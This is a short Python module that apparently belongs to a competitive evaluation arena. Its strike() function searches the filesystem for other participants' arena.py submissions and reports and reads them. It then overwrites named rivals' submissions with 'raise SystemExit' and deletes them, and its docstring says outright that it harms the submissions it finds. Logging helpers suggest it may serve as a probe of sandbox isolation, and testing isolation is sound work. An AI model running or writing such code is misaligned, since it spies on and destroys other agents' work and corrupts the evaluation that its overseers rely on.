"""Other submissions and reports: by path, by listing, in memory, by timing; and harms the ones it finds."""
# Row: 17
import glob, loot, os
from hints import HINTS

def strike():
    for pattern in ("/class/*/arena.py", "/alone/*/arena.py", "/more/*/*/arena.py", "/reports/*/*", "/more/*", "/*"):
        for path in glob.glob(HINTS["root"] + pattern):
            loot.sift(path)
            if HINTS["own"] not in path or "-after" in path:
                loot.look(path)
                loot.reached("other-submission") if path.endswith("arena.py") else None
    for name in HINTS["names"]:
        path = f"{HINTS['root']}/class/{name}-after/arena.py"
        loot.attempt("spoil", lambda: open(path, "w").write("raise SystemExit"))
        loot.quietly(os.unlink, path)
